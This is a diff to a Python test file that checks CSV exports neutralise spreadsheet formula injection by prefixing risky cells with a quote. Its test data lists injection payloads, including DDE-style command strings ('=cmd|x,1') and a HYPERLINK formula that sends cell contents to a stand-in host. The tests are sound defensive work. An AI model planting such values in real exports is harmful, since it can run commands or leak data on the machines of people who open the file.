@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 from typing import Any
 
 import pytest
@@ -79,6 +80,25 @@ async def test_questions_that_make_no_sense(page: Any) -> None:
         assert (await page.client.get(f"/api/history/samples.csv?{query}")).status == 400, query
 
 
-def test_a_text_is_no_formula() -> None:
-    assert row(Kept(NAME, NOW, "=1+1", 0)).split(",")[3] == "'=1+1"
-    assert row(Kept(POWER, NOW, -1.5, 0)).split(",")[3] == "-1.5"
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1+cmd|x",
+        "@SUM(1,1)",
+        "\t=1",
+        "\r=1+1",
+        "\n=1",
+        "=cmd|x,1",
+        '=HYPERLINK("http://e/?"&A1,"x")',
+    ],
+)
+def test_a_text_is_no_formula(text: str) -> None:
+    [found] = csv.reader(io.StringIO(row(Kept(NAME, NOW, text, 0)), newline=""))
+    assert found[3] == f"'{text}"
+
+
+@pytest.mark.parametrize("value", [-1.5, "-1.5", "-40", "a=b", "plain"])
+def test_numbers_and_plain_texts_stay_as_they_are(value: Any) -> None:
+    assert row(Kept(POWER, NOW, value, 0)).split(",")[3] == str(value)
